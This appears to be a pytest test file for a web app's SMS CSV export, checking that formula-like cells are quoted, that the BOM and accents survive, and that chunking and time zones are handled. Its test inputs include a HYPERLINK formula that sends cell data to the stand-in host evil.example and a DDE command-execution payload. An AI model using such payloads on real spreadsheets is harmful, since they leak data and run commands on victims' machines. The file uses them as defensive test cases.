"""CSV cells a spreadsheet never runs as a formula (OWASP's = + - @ tab CR, and a line feed), a
phone number that stays readable, the BOM first, accents that survive, and text in pieces."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webapp.sms import exports
from webapp.sms.exports import cell, csv_text, moment


def read_back(pieces) -> list[list[str]]:
    """The CSV text as a spreadsheet program's importer reads it: bytes, BOM and all."""
    data = "".join(pieces).encode("utf-8")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("https://evil.example/?d="&A1,"Click me")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_a_quote_before_it(text):
    assert cell(text) == "'" + text
    assert read_back(csv_text([["Name"], [text]]))[1] == ["'" + text]


def test_a_phone_number_keeps_its_plus_after_the_quote():
    assert cell("+61412345678") == "'+61412345678"


@pytest.mark.parametrize("text", ["Ada Lovelace", "0412 345 678", "a=b", "x+y", "", "'quoted"])
def test_plain_text_is_written_as_it_is(text):
    assert cell(text) == text


def test_numbers_none_and_flags():
    assert cell(25) == "25"
    assert cell(None) == ""
    assert cell(True) == "yes"
    assert cell(False) == ""


@given(st.text())
def test_no_cell_ever_starts_like_a_formula(text):
    assert not cell(text).startswith(exports.FORMULA_STARTS)
    # Only the quote is added: the text itself is all there.
    assert cell(text).removeprefix("'") == text or cell(text) == text


def test_the_text_starts_with_the_bom_and_accents_round_trip():
    pieces = list(csv_text([["Person"], ["Zoë Ñúñez"], ["Łukasz Żółw"], ["李小龍"]]))

    data = "".join(pieces).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\xef\xbb\xbf") == 1
    assert read_back(pieces) == [["Person"], ["Zoë Ñúñez"], ["Łukasz Żółw"], ["李小龍"]]


def test_commas_quotes_and_new_lines_stay_in_their_cell():
    rows = [["Message"], ['Hi, "Ada"\nsee you Monday']]
    assert read_back(csv_text(rows)) == rows


def test_the_heading_comes_alone_then_a_piece_per_chunk_of_rows():
    rows = [["n"]] + [[i] for i in range(7)]
    pieces = list(csv_text(iter(rows), chunk=3))

    assert pieces[0] == "\ufeffn\r\n"
    assert pieces[1:] == ["0\r\n1\r\n2\r\n", "3\r\n4\r\n5\r\n", "6\r\n"]


def test_the_heading_goes_before_the_rows_are_read():
    read = []

    def rows():
        yield ["n"]
        read.append("rows")
        yield [1]

    pieces = csv_text(rows())
    assert next(pieces) == "\ufeffn\r\n"
    assert read == []


def test_a_time_is_written_in_the_readers_zone():
    at = datetime(2026, 12, 2, 20, 5, 7, tzinfo=UTC)

    assert moment(at, ZoneInfo("Pacific/Auckland")) == "2026-12-03 09:05:07+13:00"  # NZDT, +13
    assert moment(at, ZoneInfo("Australia/Perth")) == "2026-12-03 04:05:07+08:00"  # AWST, +8
    assert moment(None, ZoneInfo("Australia/Perth")) == ""


def test_the_two_moments_the_clocks_read_alike_when_they_go_back_are_written_apart():
    # Sydney's clocks go back at 03:00 AEDT on 5 April 2026: 02:30 happens at +11:00, then +10:00.
    sydney = ZoneInfo("Australia/Sydney")
    assert moment(datetime(2026, 4, 4, 15, 30, tzinfo=UTC), sydney) == "2026-04-05 02:30:00+11:00"
    assert moment(datetime(2026, 4, 4, 16, 30, tzinfo=UTC), sydney) == "2026-04-05 02:30:00+10:00"
    assert moment(datetime(2026, 4, 4, 16, 30, 5, 999_999, tzinfo=UTC), ZoneInfo("UTC")) == (
        "2026-04-04 16:30:05+00:00"
    )
